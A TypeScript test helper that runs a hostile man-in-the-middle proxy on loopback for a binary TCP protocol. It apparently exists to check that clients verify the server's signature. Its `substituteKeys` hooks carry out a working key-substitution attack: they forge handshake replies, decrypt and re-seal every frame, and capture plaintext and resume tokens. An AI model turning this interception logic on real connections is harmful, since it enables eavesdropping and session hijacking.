// A hostile man in the middle on loopback for the binary TCP stack: it sits
// between a client and the test server, parses every frame both ways and
// lets a test forward, rewrite, drop or inject frames. The attacks built on
// it go all the way: `substituteKeys` runs its own key agreement with each
// side and re-seals every frame, so a client that does not check the
// server's signature really is read and steered by it.
import { createServer, type Server, type Socket, connect as tcpConnect } from 'node:net'
import {
  cipherSealer,
  createSessionKeys,
  generateKeyPair,
  generateNonce,
  openResumeToken,
  sealResumeToken,
} from '@tessera/kernel'
import { FrameFlag, Handshake, HandshakeOk } from '@tessera/protocol'

export interface RawFrame {
  flags: number
  msgId: number
  reqId: number
  body: Uint8Array
}

export function encodeTcpFrame(f: RawFrame): Buffer {
  const out = Buffer.alloc(4 + 10 + f.body.length)
  out.writeUInt32BE(10 + f.body.length, 0)
  out[4] = f.flags
  out.writeUInt32BE(f.msgId, 6)
  out.writeUInt32BE(f.reqId, 10)
  out.set(f.body, 14)
  return out
}

/** Length-prefixed frames out of a byte stream. */
class FrameReader {
  private buf = Buffer.alloc(0)
  push(chunk: Buffer): RawFrame[] {
    this.buf = Buffer.concat([this.buf, chunk])
    const out: RawFrame[] = []
    while (this.buf.length >= 4 && this.buf.length >= 4 + this.buf.readUInt32BE(0)) {
      const n = this.buf.readUInt32BE(0)
      const f = this.buf.subarray(4, 4 + n)
      out.push({
        flags: f[0]!,
        msgId: f.readUInt32BE(2),
        reqId: f.readUInt32BE(6),
        body: Buffer.from(f.subarray(10)),
      })
      this.buf = this.buf.subarray(4 + n)
    }
    return out
  }
}

/** One proxied connection: the test's handle on both directions. */
export class MitmConn {
  constructor(
    readonly client: Socket,
    readonly server: Socket | null,
  ) {}
  toServer(f: RawFrame): void {
    this.server?.write(encodeTcpFrame(f))
  }
  toClient(f: RawFrame): void {
    this.client.write(encodeTcpFrame(f))
  }
}

export interface MitmHooks {
  /** A frame from the client; forward it (or not) through `c`. Default: forward as is. */
  fromClient?(f: RawFrame, c: MitmConn): void
  /** A frame from the server. Default: forward as is. */
  fromServer?(f: RawFrame, c: MitmConn): void
  /** Do not connect to the server at all (the proxy answers alone). */
  noUpstream?: boolean
}

export class MitmProxy {
  readonly conns: MitmConn[] = []
  private readonly sockets = new Set<Socket>()

  private constructor(
    private readonly server: Server,
    readonly port: number,
  ) {}

  static async start(target: { host: string; port: number }, hooks: MitmHooks): Promise<MitmProxy> {
    let proxy: MitmProxy | undefined
    const server = createServer((client) => {
      const upstream = hooks.noUpstream ? null : tcpConnect(target)
      const c = new MitmConn(client, upstream)
      proxy!.conns.push(c)
      for (const s of [client, upstream]) {
        if (s === null) continue
        proxy!.sockets.add(s)
        s.on('error', () => {})
        s.on('close', () => {
          client.destroy()
          upstream?.destroy()
        })
      }
      const fromClient = new FrameReader()
      const fromServer = new FrameReader()
      client.on('data', (d: Buffer) => {
        for (const f of fromClient.push(d)) (hooks.fromClient ?? ((x, cc) => cc.toServer(x)))(f, c)
      })
      upstream?.on('data', (d: Buffer) => {
        for (const f of fromServer.push(d)) (hooks.fromServer ?? ((x, cc) => cc.toClient(x)))(f, c)
      })
    })
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
    proxy = new MitmProxy(server, (server.address() as { port: number }).port)
    return proxy
  }

  /** Cut every proxied connection (both sides). */
  cut(): void {
    for (const s of this.sockets) s.destroy()
  }

  async close(): Promise<void> {
    this.cut()
    await new Promise((r) => this.server.close(r))
  }
}

/**
 * The full attack on an unauthenticated key exchange: the proxy agrees keys
 * with the client (as the server) and with the server (as the client),
 * passes the server's signature through untouched (it cannot forge one),
 * and opens and re-seals every frame after the handshake. `seen` collects
 * every plaintext body that crossed it.
 */
export function substituteKeys(seen: Uint8Array[]): MitmHooks {
  type Keys = ReturnType<typeof cipherSealer>
  const state = new Map<
    MitmConn,
    {
      toClient?: Keys
      toServer?: Keys
      clientKey: Uint8Array
      clientNonce: Uint8Array
      sentNonce: Uint8Array
      pair: ReturnType<typeof generateKeyPair>
    }
  >()
  return {
    fromClient(f, c) {
      const st = state.get(c)
      if (st === undefined && f.msgId === Handshake.msgId) {
        const hs = Handshake.decode(f.body)
        const pair = generateKeyPair()
        state.set(c, { clientKey: hs.keyPublic, clientNonce: hs.nonce, sentNonce: hs.nonce, pair })
        c.toServer({ ...f, body: Handshake.encode({ ...hs, keyPublic: pair.publicKey }) })
        return
      }
      if (st?.toClient && st.toServer && f.flags & FrameFlag.ENCRYPTED) {
        const plain = st.toClient.open(f.flags, f.msgId, f.reqId, f.body)
        seen.push(plain)
        const s = st.toServer.seal(f.flags & ~FrameFlag.ENCRYPTED, f.msgId, f.reqId, plain)
        c.toServer({ ...f, flags: s.flags, body: s.body })
        return
      }
      c.toServer(f)
    },
    fromServer(f, c) {
      const st = state.get(c)
      if (
        st !== undefined &&
        st.toClient === undefined &&
        f.msgId === HandshakeOk.msgId &&
        !(f.flags & FrameFlag.ERROR)
      ) {
        const ok = HandshakeOk.decode(f.body)
        const up = createSessionKeys({
          role: 'client',
          keyPair: st.pair,
          peerPublicKey: ok.keyPublic,
          clientNonce: st.sentNonce,
          serverNonce: ok.nonce,
        })
        const toward = generateKeyPair()
        const nonce = generateNonce()
        const down = createSessionKeys({
          role: 'server',
          keyPair: toward,
          peerPublicKey: st.clientKey,
          clientNonce: st.clientNonce,
          serverNonce: nonce,
        })
        st.toServer = cipherSealer(up.cipher)
        st.toClient = cipherSealer(down.cipher)
        const token = ok.sealAll ? openResumeToken(up.resumeKey, ok.resumeTokenSealed) : ok.resumeToken
        seen.push(new TextEncoder().encode(`resume token ${token}`))
        const forged: HandshakeOk = {
          ...ok,
          keyPublic: toward.publicKey,
          nonce,
          resumeTokenSealed: ok.sealAll ? sealResumeToken(down.resumeKey, token) : ok.resumeTokenSealed,
        }
        c.toClient({ ...f, body: HandshakeOk.encode(forged) })
        return
      }
      if (st?.toClient && st.toServer && f.flags & FrameFlag.ENCRYPTED) {
        const plain = st.toServer.open(f.flags, f.msgId, f.reqId, f.body)
        seen.push(plain)
        const s = st.toClient.seal(f.flags & ~FrameFlag.ENCRYPTED, f.msgId, f.reqId, plain)
        c.toClient({ ...f, flags: s.flags, body: s.body })
        return
      }
      c.toClient(f)
    },
  }
}
